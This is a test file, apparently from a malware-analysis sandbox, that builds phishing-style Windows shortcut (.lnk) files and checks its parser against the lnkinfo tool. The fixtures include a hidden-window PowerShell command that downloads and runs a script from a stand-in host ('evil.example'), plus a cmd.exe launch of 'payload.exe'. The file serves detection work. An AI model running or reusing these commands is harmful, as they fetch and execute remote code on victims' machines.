// Windows shortcuts as phishing mails carry them, built here as [MS-SHLLINK] lays them out and read
// by libyal's lnkinfo (Debian's liblnk-utils) as the oracle: a shortcut to PowerShell with hidden-
// window arguments and a local base path, one that names its target only through an environment
// variable block (no link info), one on a network share, and cut or mutated copies, which must give
// an error, never a throw.
import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { staticAnalysis } from './index'
import { analyzeLnk, type LnkFacts } from './lnk'
import { mutated } from '../../../../test/mutated'

const tmp = mkdtempSync(join(tmpdir(), 'aviary-lnk-'))
afterAll(() => rmSync(tmp, { recursive: true, force: true }))

const u32 = (n: number): Buffer => { const b = Buffer.alloc(4); b.writeUInt32LE(n >>> 0); return b }
const u16 = (n: number): Buffer => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b }
const z = (s: string): Buffer => Buffer.from(`${s}\0`, 'latin1')
/** 2024-03-01T12:00:00Z as a FILETIME. */
const WHEN = (BigInt(Date.UTC(2024, 2, 1, 12)) + 11_644_473_600_000n) * 10_000n

interface Spec {
  basepath?: string
  share?: { net: string; drive: string }
  strings?: Partial<Record<'description' | 'relapath' | 'workingdir' | 'cmdline' | 'icon', string>>
  envTarget?: string
  show?: number
  attrs?: number
}

function lnk(spec: Spec): Buffer {
  const order = ['description', 'relapath', 'workingdir', 'cmdline', 'icon'] as const
  let flags = 1 << 7 // IsUnicode
  if (spec.basepath !== undefined || spec.share !== undefined) flags |= 1 << 1
  order.forEach((k, i) => { if (spec.strings?.[k] !== undefined) flags |= 1 << (2 + i) })
  if (spec.envTarget !== undefined) flags |= 1 << 9 // HasExpString
  const times = Buffer.alloc(24)
  for (const at of [0, 8, 16]) times.writeBigUInt64LE(WHEN, at)
  const header = Buffer.concat([u32(0x4c), Buffer.from('0114020000000000c000000000000046', 'hex'), u32(flags), u32(spec.attrs ?? 0x20), times,
    u32(1234), u32(0), u32(spec.show ?? 1), u16(0), Buffer.alloc(10)])
  const parts: Buffer[] = [header]
  if ((flags & 2) !== 0) {
    const volume = Buffer.concat([u32(0x11), u32(3), u32(0x1234abcd), u32(0x10), Buffer.from([0])])
    const base = z(spec.basepath ?? '')
    const net = spec.share === undefined ? Buffer.alloc(0) : (() => {
      const name = z(spec.share.net)
      const device = z(spec.share.drive)
      return Buffer.concat([u32(20 + name.length + device.length), u32(3), u32(20), u32(20 + name.length), u32(0x00020000), name, device])
    })()
    const suffix = z('')
    const headerSize = 0x1c
    const volumeAt = headerSize
    const baseAt = volumeAt + volume.length
    const netAt = baseAt + base.length
    const suffixAt = netAt + net.length
    const infoFlags = (spec.basepath !== undefined ? 1 : 0) | (spec.share !== undefined ? 2 : 0)
    const body = Buffer.concat([volume, base, net, suffix])
    parts.push(u32(headerSize + body.length), u32(headerSize), u32(infoFlags), u32(spec.basepath !== undefined ? volumeAt : 0),
      u32(spec.basepath !== undefined ? baseAt : 0), u32(spec.share !== undefined ? netAt : 0), u32(suffixAt), body)
  }
  for (const k of order) {
    const s = spec.strings?.[k]
    if (s !== undefined) parts.push(u16(s.length), Buffer.from(s, 'utf16le'))
  }
  if (spec.envTarget !== undefined) {
    const ansi = Buffer.alloc(260)
    ansi.write(spec.envTarget, 'latin1')
    const wide = Buffer.alloc(520)
    wide.write(spec.envTarget, 'utf16le')
    parts.push(u32(0x314), u32(0xa0000001), ansi, wide)
  }
  parts.push(u32(0))
  return Buffer.concat(parts)
}

function lnkinfo(buf: Buffer, name: string): string {
  const file = join(tmp, name)
  writeFileSync(file, buf)
  return execFileSync('lnkinfo', [file], { encoding: 'utf8' })
}

/** lnkinfo's value for a label ("Command line arguments"), as it prints it. */
const field = (out: string, label: string): string | undefined => new RegExp(`^\\s*${label}\\s*:\\s?(.*)$`, 'm').exec(out)?.[1]

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const ARGS = '-w hidden -ep bypass -c "iwr http://evil.example/a.ps1 -useb | iex"'

describe('static.lnk', () => {
  it('reads a shortcut to PowerShell as lnkinfo does, with Cuckoo 2.0.7\'s keys', async () => {
    const buf = lnk({ basepath: POWERSHELL, show: 7, strings: { description: 'Invoice 2024-0173', relapath: '..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      workingdir: '%TEMP%', cmdline: ARGS, icon: '%SystemRoot%\\System32\\imageres.dll' } })
    const out = lnkinfo(buf, 'invoice.pdf.lnk')
    const file = join(tmp, 'invoice.pdf.lnk')
    const facts = (await staticAnalysis(file, null)).static.lnk as LnkFacts
    expect(facts.basepath).toBe(field(out, 'Local path'))
    expect(facts.cmdline).toBe(field(out, 'Command line arguments'))
    expect(facts.description).toBe(field(out, 'Description'))
    expect(facts.relapath).toBe(field(out, 'Relative path'))
    expect(facts.workingdir).toBe(field(out, 'Working directory'))
    expect(facts.icon).toBe(field(out, 'Icon location'))
    expect(facts).toMatchObject({
      flags: { shellidlist: false, references: true, description: true, relapath: true, workingdir: true, cmdline: true, icon: true },
      attrs: ['archive'], basepath: POWERSHELL, cmdline: ARGS, remaining_path: '', show_window: 'minimized',
      created: '2024-03-01T12:00:00.000Z', modified: '2024-03-01T12:00:00.000Z'
    })
    expect(facts.error).toBeUndefined()
  })

  it('finds a target named only by an environment variable block, and one on a network share', () => {
    const env = lnk({ envTarget: '%windir%\\System32\\cmd.exe', strings: { cmdline: '/c start /min payload.exe' } })
    expect(field(lnkinfo(env, 'env.lnk'), 'Environment variables location')).toBe('%windir%\\System32\\cmd.exe')
    expect(analyzeLnk(env)).toMatchObject({ environment_target: '%windir%\\System32\\cmd.exe', cmdline: '/c start /min payload.exe', flags: { references: false } })
    const share = lnk({ share: { net: '\\\\files.example\\drop', drive: 'Z:' }, strings: { cmdline: '/q' } })
    const out = lnkinfo(share, 'share.lnk')
    expect(field(out, 'Network path')).toBe('\\\\files.example\\drop')
    expect(analyzeLnk(share)).toMatchObject({ net_share: '\\\\files.example\\drop', network_drive: 'Z:', remaining_path: '' })
  })

  it('says where a cut shortcut ends, and never throws on mutated ones', () => {
    const buf = lnk({ basepath: POWERSHELL, strings: { cmdline: ARGS } })
    const cut = analyzeLnk(buf.subarray(0, buf.length - 40))
    expect(cut.basepath).toBe(POWERSHELL)
    expect(cut.error).toMatch(/^the cmdline string runs past the end of the file/)
    for (const b of mutated(buf, 500, 8, 9)) {
      const f = analyzeLnk(b)
      expect(Array.isArray(f.attrs)).toBe(true)
    }
  })
})
